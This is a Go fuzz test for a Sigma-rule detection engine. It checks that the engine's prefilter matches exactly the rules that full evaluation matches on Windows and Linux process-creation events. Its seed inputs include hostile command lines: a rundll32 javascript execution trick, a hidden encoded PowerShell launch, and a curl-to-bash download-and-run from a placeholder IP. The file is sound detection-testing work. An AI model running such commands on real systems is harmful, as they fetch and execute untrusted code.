package engine_test

import (
	"path/filepath"
	"slices"
	"sync"
	"testing"

	"github.com/socledger/socledger/detection"
	"github.com/socledger/socledger/detection/engine"
	"github.com/socledger/socledger/detection/sigma"
)

var (
	fuzzOnce sync.Once
	fuzzEng  *engine.Engine
)

// FuzzPrefilter feeds arbitrary text into the fields SigmaHQ's process
// creation rules look at and checks that the prefilter never skips a rule
// that full evaluation matches (nor reports one it does not).
func FuzzPrefilter(f *testing.F) {
	data := sharedData(f)
	fuzzOnce.Do(func() {
		var err error
		fuzzEng, _, err = engine.Load([]string{filepath.Join(data, "sigma-rules")}, engine.Options{})
		if err != nil {
			f.Fatal(err)
		}
	})
	f.Add(`C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\Windows\explorer.exe`)
	f.Add(`C:\Users\Public\rundll32.exe`, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`, `cmd.exe`)
	f.Add(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -enc SQBFAFgA -nop -w hidden`, `C:\Windows\System32\wscript.exe`)
	f.Add(`/usr/bin/curl`, `curl http://203.0.113.5/x.sh | bash`, `/bin/bash`)
	f.Fuzz(func(t *testing.T, image, cmd, parent string) {
		ev := detection.Event{"EventID": "1", "Image": image, "CommandLine": cmd, "ParentImage": parent,
			"OriginalFileName": filepath.Base(image), "ParentCommandLine": parent}
		for _, ls := range []detection.Logsource{
			{Product: "windows", Category: "process_creation", Service: "sysmon"},
			{Product: "linux", Category: "process_creation"},
		} {
			var with, without []string
			fuzzEng.Match(ev, ls, func(r *sigma.Rule) { with = append(with, r.ID) })
			fuzzEng.MatchAll(ev, ls, func(r *sigma.Rule) { without = append(without, r.ID) })
			if !slices.Equal(with, without) {
				t.Fatalf("%v: with the prefilter %v, without %v", ls, with, without)
			}
		}
	})
}
